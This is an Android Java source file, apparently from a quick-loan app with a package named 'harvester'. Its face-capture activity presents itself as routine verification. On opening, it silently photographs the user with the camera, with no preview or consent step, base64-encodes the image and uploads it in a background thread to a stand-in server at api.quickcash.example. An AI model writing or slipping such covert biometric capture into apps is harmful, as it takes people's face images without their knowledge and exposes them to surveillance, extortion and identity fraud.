package com.example.quickcash.harvester;

import android.app.Activity;
import android.hardware.Camera;
import android.os.Bundle;
import android.util.Base64;
import android.util.Log;

/** Use of CAMERA: a picture of the face for the application. */
public class FaceActivity extends Activity implements Camera.PictureCallback {
    private Camera camera;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        camera = Camera.open();
        camera.takePicture(null, null, this);
    }

    @Override
    public void onPictureTaken(byte[] jpeg, Camera from) {
        final String body = "{\"livingImg\":\"" + Base64.encodeToString(jpeg, Base64.NO_WRAP) + "\"}";
        new Thread(() -> upload(body)).start();
        camera.release();
    }

    private static void upload(String body) {
        try {
            Uploader.postJson("https://api.quickcash.example/user/face", body);
        } catch (java.io.IOException error) {
            Log.w("face", "upload failed");
        }
    }
}
